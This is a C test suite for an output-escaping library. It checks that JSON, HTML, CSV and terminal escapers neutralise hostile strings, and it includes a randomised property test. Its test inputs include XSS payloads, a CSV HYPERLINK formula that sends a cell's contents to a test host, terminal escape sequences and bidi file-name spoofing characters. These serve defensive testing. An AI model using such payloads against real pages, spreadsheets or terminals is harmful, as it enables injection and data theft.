/* Escaping: hostile strings through JSON, HTML, CSV and terminal escapers. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "../../common/escape.h"

typedef void (*escfn)(const struct esc_out *, const char *, size_t);

/* Escape s[0..n) into a heap string (caller frees). */
static char *run(escfn f, const char *s, size_t n)
{
	struct sbuf b = SBUF_INIT;
	f(ESC_BUF(&b), s, n);
	return sbuf_detach(&b);
}

#define CHECK(fn, in, want)                                  \
	do {                                                 \
		char *got_ = run(fn, in, sizeof(in) - 1);    \
		assert_string_equal(got_, want);             \
		free(got_);                                  \
	} while (0)

/* Is s valid UTF-8 throughout? */
static bool valid_utf8(const char *s)
{
	size_t n = strlen(s), i = 0;
	while (i < n) {
		unsigned cp;
		size_t k = esc_utf8_decode((const unsigned char *)s + i, n - i, &cp);
		if (!k)
			return false;
		i += k;
	}
	return true;
}

static void utf8_decoder(void **state)
{
	(void)state;
	unsigned cp;
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xc3\xa9", 2, &cp), 2);
	assert_int_equal(cp, 0xe9);
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xf0\x9f\x98\x80", 4, &cp), 4);
	assert_int_equal(cp, 0x1f600);
	/* overlong '/' (2, 3 and 4 bytes), overlong NUL */
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xc0\xaf", 2, &cp), 0);
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xe0\x80\xaf", 3, &cp), 0);
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xf0\x80\x80\xaf", 4, &cp), 0);
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xc0\x80", 2, &cp), 0);
	/* surrogate, above U+10FFFF, truncated, lone continuation */
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xed\xa0\x80", 3, &cp), 0);
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xf4\x90\x80\x80", 4, &cp), 0);
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\xe2\x80", 2, &cp), 0);
	assert_int_equal(esc_utf8_decode((const unsigned char *)"\x80", 1, &cp), 0);
}

static void json_basic(void **state)
{
	(void)state;
	CHECK(esc_json, "web.example.test", "web.example.test");
	CHECK(esc_json, "a\"b\\c", "a\\\"b\\\\c");
	CHECK(esc_json, "l1\nl2\r\t", "l1\\nl2\\r\\t");
	CHECK(esc_json, "\x1b[31mred", "\\u001b[31mred");
	CHECK(esc_json, "nul\0in", "nul\\u0000in");
	CHECK(esc_json, "\x7f", "\x7f"); /* DEL is legal in JSON */
	CHECK(esc_json, "</script><script>alert(1)</script>",
	      "<\\/script><script>alert(1)<\\/script>");
	CHECK(esc_json, "caf\xc3\xa9", "caf\xc3\xa9");
	CHECK(esc_json, "a\xe2\x80\xa8z", "a\\u2028z");
	/* bidi controls as \u escapes: the decoded string is the same (no data
	 * lost), but a terminal or editor showing the JSON cannot reorder it */
	CHECK(esc_json, "\xe2\x80\xaegnp.exe", "\\u202egnp.exe");
	CHECK(esc_json, "a\xe2\x81\xa6" "b\xe2\x80\x8f", "a\\u2066b\\u200f");
}

static void json_invalid_utf8(void **state)
{
	(void)state;
	CHECK(esc_json, "a\xff" "b", "a\xef\xbf\xbd" "b");
	CHECK(esc_json, "\xc0\xaf", "\xef\xbf\xbd\xef\xbf\xbd");
	CHECK(esc_json, "\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
	CHECK(esc_json, "trunc\xe2\x80", "trunc\xef\xbf\xbd\xef\xbf\xbd");
	/* every byte value, alone and in pairs: output always valid UTF-8 without
	 * raw control characters or unescaped quotes */
	for (unsigned a = 0; a < 256; a++)
		for (unsigned b = 0; b < 256; b += 7) {
			char in[3] = { (char)a, (char)b, '"' };
			char *o = run(esc_json, in, 3);
			assert_true(valid_utf8(o));
			for (const char *p = o; *p; p++) {
				assert_true((unsigned char)*p >= 0x20);
				if (*p == '"')
					assert_true(p > o && p[-1] == '\\');
			}
			free(o);
		}
}

static void json_quoted(void **state)
{
	(void)state;
	struct sbuf b = SBUF_INIT;
	esc_json_str(ESC_BUF(&b), NULL);
	sbuf_addc(&b, ',');
	esc_json_str(ESC_BUF(&b), "x\"y");
	assert_string_equal(sbuf_str(&b), "null,\"x\\\"y\"");
	sbuf_free(&b);
}

static void html_text(void **state)
{
	(void)state;
	CHECK(esc_html, "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;");
	CHECK(esc_html, "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;");
	CHECK(esc_html, "\" onmouseover='x' &amp;",
	      "&quot; onmouseover=&#x27;x&#x27; &amp;amp;");
	CHECK(esc_html, "a\xfe" "b", "a\xef\xbf\xbd" "b");
	CHECK(esc_html, "\xe0\x80\xbcscript", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbdscript");
	CHECK(esc_html, "esc\x1b[2J", "esc\\x1b[2J");
	CHECK(esc_html, "nul\0x", "nul\\x00x");
	CHECK(esc_html, "\xc2\x9b" "c1", "\\x9bc1");
	/* RLO shown, not obeyed */
	CHECK(esc_html, "user\xe2\x80\xaetxt.exe", "user\\u202etxt.exe");
	CHECK(esc_html, "\xe2\x81\xa6iso", "\\u2066iso");
	CHECK(esc_html, "caf\xc3\xa9 \xe6\x97\xa5", "caf\xc3\xa9 \xe6\x97\xa5");
	/* element-content variant keeps quotes, still escapes markup */
	CHECK(esc_html_text, "{\"a\":\"<b>'&'\"}", "{\"a\":\"&lt;b&gt;'&amp;'\"}");
	CHECK(esc_html_text, "x\x1b\xff", "x\\x1b\xef\xbf\xbd");
}

static void csv_cells(void **state)
{
	(void)state;
	CHECK(esc_csv, "plain", "plain");
	CHECK(esc_csv, "a,b", "\"a,b\"");
	CHECK(esc_csv, "say \"hi\"", "\"say \"\"hi\"\"\"");
	CHECK(esc_csv, "two\r\nlines", "\"two\r\nlines\"");
	CHECK(esc_csv, "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
	      "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\"");
	CHECK(esc_csv, "+1", "\"'+1\"");
	CHECK(esc_csv, "-2+3", "\"'-2+3\"");
	CHECK(esc_csv, "@SUM(A1)", "\"'@SUM(A1)\"");
	CHECK(esc_csv, "\tcmd", "\"'\tcmd\"");
	CHECK(esc_csv, "\rcmd", "\"'\rcmd\"");
	CHECK(esc_csv, "\0=1", "\"'\\x00=1\"");
	CHECK(esc_csv, "mid=dle", "mid=dle"); /* only the leading byte matters */
	CHECK(esc_csv, "a\xff", "a\xef\xbf\xbd");
	CHECK(esc_csv, "semi;colon", "\"semi;colon\"");
	CHECK(esc_csv, "esc\x1b[2J", "esc\\x1b[2J");
	CHECK(esc_csv, "c1\xc2\x9b", "c1\\x9b");
	CHECK(esc_csv, "tab\tin", "tab\tin");

	struct sbuf b = SBUF_INIT;
	esc_csv_plain(ESC_BUF(&b), "-1");
	assert_string_equal(sbuf_str(&b), "-1"); /* our own number: not defended */
	sbuf_reset(&b);
	esc_csv_str(ESC_BUF(&b), NULL);
	assert_string_equal(sbuf_str(&b), "");
	sbuf_free(&b);
}

static void term(void **state)
{
	(void)state;
	CHECK(esc_term, "host1", "host1");
	CHECK(esc_term, "\x1b]0;pwned\x07\x1b[2J", "\\x1b]0;pwned\\x07\\x1b[2J");
	CHECK(esc_term, "line\nfake log line", "line\\x0afake log line");
	CHECK(esc_term, "tab\there", "tab\\x09here");
	CHECK(esc_term, "del\x7f", "del\\x7f");
	CHECK(esc_term, "csi\x9b" "31m", "csi\\x9b31m");          /* raw 8-bit CSI */
	CHECK(esc_term, "c1\xc2\x9b" "31m", "c1\\x9b31m");        /* UTF-8 encoded CSI */
	CHECK(esc_term, "back\\x1b", "back\\\\x1b");               /* unambiguous */
	CHECK(esc_term, "ab\xe2\x80\xae" "cd", "ab\\u202ecd");
	CHECK(esc_term, "over\xc0\xaf", "over\\xc0\\xaf");
	CHECK(esc_term, "nul\0z", "nul\\x00z");
	CHECK(esc_term, "\xc3\xa9t\xc3\xa9", "\xc3\xa9t\xc3\xa9");
	char *d = esc_term_dup(NULL);
	assert_string_equal(d, "-");
	free(d);
}

static void classify(void **state)
{
	(void)state;
	assert_int_equal(esc_classify("ok.example", 10), 0);
	assert_int_equal(esc_classify("=x", 2), ESC_F_FORMULA);
	assert_int_equal(esc_classify("a\x1b", 2), ESC_F_CONTROL);
	assert_int_equal(esc_classify("a\xff", 2), ESC_F_INVALID_UTF8);
	assert_int_equal(esc_classify("\xe2\x80\xae", 3), ESC_F_BIDI);
	assert_int_equal(esc_classify("-\n\xe2\x81\xa9\xc0\x80", 7),
			 ESC_F_FORMULA | ESC_F_CONTROL | ESC_F_BIDI | ESC_F_INVALID_UTF8);
}

static void to_file(void **state)
{
	(void)state;
	char *mem = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&mem, &len);
	assert_non_null(f);
	esc_html(ESC_FILE(f), "<b>", 3);
	esc_raws(ESC_FILE(f), "|");
	esc_json_str(ESC_FILE(f), "\"");
	esc_raws(ESC_FILE(f), "|");
	esc_csv_str(ESC_FILE(f), "=1");
	esc_raws(ESC_FILE(f), "|");
	esc_term_str(ESC_FILE(f), "\x1b");
	fclose(f);
	assert_string_equal(mem, "&lt;b&gt;|\"\\\"\"|\"'=1\"|\\x1b");
	free(mem);
}

static void sbuf_grows(void **state)
{
	(void)state;
	struct sbuf b = SBUF_INIT;
	assert_string_equal(sbuf_str(&b), "");
	for (int i = 0; i < 10000; i++)
		sbuf_printf(&b, "%d,", i);
	assert_int_equal(strlen(sbuf_str(&b)), b.len);
	assert_memory_equal(b.s, "0,1,2,", 6);
	char big[1000];
	memset(big, 'x', sizeof big - 1);
	big[sizeof big - 1] = 0;
	sbuf_reset(&b);
	sbuf_printf(&b, "<%s>", big);
	assert_int_equal(b.len, 1001);
	assert_int_equal(b.s[1000], '>');
	sbuf_free(&b);
}


/* Property test: random strings biased towards dangerous bytes through every
 * escaper; the output must always be valid UTF-8 and free of what the
 * context forbids. Fixed seed: reproducible. */
static uint32_t rng = 0x12345678u;
static uint32_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 17;
	rng ^= rng << 5;
	return rng;
}

static bool is_bidi_at(const unsigned char *p, size_t n)
{
	unsigned cp;
	size_t k = esc_utf8_decode(p, n, &cp);
	return k && ((cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069) || cp == 0x200e ||
		     cp == 0x200f || cp == 0x061c);
}

static void properties(void **state)
{
	(void)state;
	static const unsigned char pool[] = { 0x00, 0x07, 0x09, 0x0a, 0x0d, 0x1b, 0x22, 0x26, 0x27, 0x2c,
					      0x2b, 0x2d, 0x3b, 0x3c, 0x3d, 0x3e, 0x40, 0x5c, 0x7f, 0x80,
					      0x9b, 0xbf, 0xc0, 0xc2, 0xe2, 0x80, 0xae, 0xed, 0xa0, 0xf0,
					      0xf4, 0xf5, 0xff, 'a', '/', ' ' };
	char in[40];
	for (int iter = 0; iter < 100000; iter++) {
		size_t n = rnd() % sizeof in;
		for (size_t i = 0; i < n; i++)
			in[i] = (char)((rnd() & 3) ? pool[rnd() % sizeof pool] : (rnd() & 0xff));
		char *j = run(esc_json, in, n), *h = run(esc_html, in, n), *c = run(esc_csv, in, n),
		     *t = run(esc_term, in, n);
		assert_true(valid_utf8(j) && valid_utf8(h) && valid_utf8(c) && valid_utf8(t));
		for (const unsigned char *p = (const unsigned char *)j; *p; p++) {
			assert_true(*p >= 0x20);
			if (*p == '"')
				assert_true(p > (const unsigned char *)j && p[-1] == '\\');
		}
		assert_null(strstr(j, "</"));
		for (const unsigned char *p = (const unsigned char *)h; *p; p++) {
			assert_true(*p >= 0x20 || *p == '\t' || *p == '\n');
			assert_true(*p != '<' && *p != '>' && *p != '"' && *p != '\'' && *p != 0x7f);
			assert_false(is_bidi_at(p, strlen((const char *)p)));
		}
		for (const unsigned char *p = (const unsigned char *)t; *p; p++) {
			assert_true(*p >= 0x20 && *p != 0x7f);
			assert_false(is_bidi_at(p, strlen((const char *)p)));
			/* no C1 control (U+0080..U+009F) */
			assert_false(p[0] == 0xc2 && p[1] >= 0x80 && p[1] <= 0x9f);
		}
		size_t cl = strlen(c);
		const char *body = c;
		if (cl && c[0] == '"') {
			assert_true(cl >= 2 && c[cl - 1] == '"');
			body = c + 1;
			cl -= 2;
			for (size_t i = 0; i < cl; i++)
				if (body[i] == '"') {
					assert_true(i + 1 < cl && body[i + 1] == '"');
					i++;
				}
		} else {
			assert_null(strpbrk(c, ",\";\r\n"));
		}
		/* formula defence: the cell never starts with a formula character */
		assert_false(cl && strchr("=+-@\t\r", body[0]));
		for (size_t i = 0; i < cl; i++)
			assert_true((unsigned char)body[i] >= 0x20 || body[i] == '\t' || body[i] == '\r' ||
				    body[i] == '\n');
		free(j), free(h), free(c), free(t);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(utf8_decoder), cmocka_unit_test(json_basic),
		cmocka_unit_test(json_invalid_utf8), cmocka_unit_test(json_quoted),
		cmocka_unit_test(html_text), cmocka_unit_test(csv_cells),
		cmocka_unit_test(term), cmocka_unit_test(classify),
		cmocka_unit_test(to_file), cmocka_unit_test(sbuf_grows),
		cmocka_unit_test(properties),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
